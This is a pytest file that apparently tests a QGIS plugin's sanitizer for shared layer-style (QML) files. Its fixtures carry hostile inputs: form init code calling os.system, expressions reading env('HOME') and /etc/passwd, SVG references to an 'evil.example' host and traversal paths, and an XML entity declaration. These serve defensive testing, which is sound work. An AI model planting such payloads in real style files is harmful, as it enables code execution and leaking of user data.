"""Styles: what others send is symbology and nothing else; what we make has fixed meanings."""

from __future__ import annotations

import os

import pytest
from cityverse.cityverse_plugin.bridge.layers import open_file
from cityverse.cityverse_plugin.bridge.safe_style import apply_safe_style, own_style, safe_style
from cityverse.cityverse_plugin.bridge.styles import apply_result_style, apply_role_style
from cityverse.cityverse_plugin.twin.messages import CityVerseError
from cityverse.cityverse_plugin.twin.roles import roles
from qgis.core import QgsVectorLayer
from tiny_city import samples

MARKER = """<!DOCTYPE qgis PUBLIC 'http://mrcc.com/qgis.dtd' 'SYSTEM'>
<qgis version="3.22" styleCategories="AllStyleCategories" mapTip="x">
 <renderer-v2 type="singleSymbol"><symbols><symbol type="marker" name="0" alpha="1">
  <layer class="{kind}" enabled="1" pass="0" locked="0"><Option type="Map">{options}
   <Option name="size" value="4" type="QString"/></Option>
   <data_defined_properties><Option type="Map"><Option name="properties" type="Map">{defined}</Option></Option>
   </data_defined_properties></layer></symbol></symbols></renderer-v2>
 <editforminitcode>import os; os.system('x')</editforminitcode><mapTip>[% env('HOME') %]</mapTip>
 <attributeactions><actionsetting type="1" action="x"/></attributeactions>
</qgis>"""


def qml(options: str = "", defined: str = "", kind: str = "SimpleMarker") -> bytes:
    return MARKER.format(kind=kind, options=options, defined=defined).encode()


def computed(expression: str, name: str = "size") -> str:
    inner = '<Option name="active" value="true" type="bool"/>'
    inner += f'<Option name="expression" value="{expression}" type="QString"/>'
    return f'<Option name="{name}" type="Map">{inner}<Option name="type" value="3" type="int"/></Option>'


@pytest.fixture
def points(qgis_app) -> QgsVectorLayer:
    return QgsVectorLayer("Point?crs=EPSG:32630&field=n:double", "points", "memory")


def test_forms_actions_and_map_tips_are_left_out(points):
    clean = safe_style(qml('<Option name="color" value="1,2,3,255" type="QString"/>'))
    assert b"SimpleMarker" in clean
    for word in (b"editform", b"os.system", b"mapTip", b"attributeactions"):
        assert word not in clean
    assert apply_safe_style(points, qml('<Option name="color" value="1,2,3,255" type="QString"/>'))
    assert points.renderer().symbol().color().red() == 1
    assert points.editFormConfig().initCode() == ""


@pytest.mark.parametrize(
    "attack",
    [
        qml(defined=computed("length(env('HOME'))")),
        qml(defined=computed("length( ENV ( 'HOME' ) )")),
        qml(defined=computed("file_size('/etc/passwd')")),
        qml(defined=computed("load_layer('/etc/x.gpkg','ogr')")),
        qml(defined=computed("aggregate('other','sum',n)")),
        qml(defined=computed("eval('e' || 'nv(1)')")),
        qml(defined=computed("length(@user_full_name)")),
        qml(defined=computed("length(var('user_account_name'))")),
        qml('<Option name="name" value="http://evil.example/x.svg" type="QString"/>', kind="SvgMarker"),
        qml('<Option name="name" value="/home/someone/x.svg" type="QString"/>', kind="SvgMarker"),
        qml('<Option name="name" value="../../x.svg" type="QString"/>', kind="SvgMarker"),
        qml(defined=computed("'http' || '://evil/' || n", "name"), kind="SvgMarker"),
        qml().replace(b"singleSymbol", b"embeddedSymbol"),
        b"<!DOCTYPE qgis [<!ENTITY a 'b'>]><qgis>&a;</qgis>",
        b"<html/>",
        b"not xml",
        b"",
    ],
)
def test_attacks_are_refused_and_the_layer_stays_as_it_was(points, attack):
    before = own_style(points)
    with pytest.raises(CityVerseError, match="left out"):
        safe_style(attack)
    assert not apply_safe_style(points, attack)
    assert own_style(points) == before


def test_symbols_of_qgis_itself_pass(points):
    plane = '<Option name="name" value="gpsicons/plane.svg" type="QString"/>'
    assert apply_safe_style(points, qml(plane, kind="SvgMarker"))
    assert apply_safe_style(points, qml(defined=computed("sqrt(n) * 2")))


def test_every_role_style_is_safe_and_travels(qgis_app, tmp_path):
    kinds = {"point": "Point", "line": "LineString", "polygon": "Polygon"}
    raster = open_file(str(samples(tmp_path)["terrain"]), "terrain")
    styled = 0
    for role in roles().values():
        for kind in role.kinds:
            layer = raster.clone() if kind == "raster" else None
            if kind in kinds:
                layer = QgsVectorLayer(f"{kinds[kind]}?crs=EPSG:32630&field=class:string", role.id, "memory")
            if layer is None or not apply_role_style(layer, role.id):
                continue
            styled += 1
            style = own_style(layer)
            assert style
            assert apply_safe_style(layer, style)
            assert os.path.expanduser("~") not in style.decode()
    assert styled >= 20


def test_equal_layers_give_equal_styles(qgis_app, tmp_path):
    zones = str(samples(tmp_path)["districts"])
    styles = []
    for _ in range(2):
        layer = open_file(zones, "zones")
        assert apply_result_style(layer, "cityverse:zonalindicators")
        styles.append(own_style(layer))
    assert b"graduatedSymbol" in styles[0]
    assert styles[0] == styles[1]


def test_result_styles_have_fixed_meanings(qgis_app, tmp_path):
    files = samples(tmp_path)
    index = open_file(str(files["terrain"]), "index")
    assert apply_result_style(index, "cityverse:spectralindices")
    assert (index.renderer().classificationMin(), index.renderer().classificationMax()) == (-1, 1)
    zones = open_file(str(files["districts"]), "zones")
    assert apply_result_style(zones, "cityverse:zonalindicators")
    assert zones.renderer().type() == "graduatedSymbol"
    assert not apply_result_style(zones, "cityverse:unheardof")
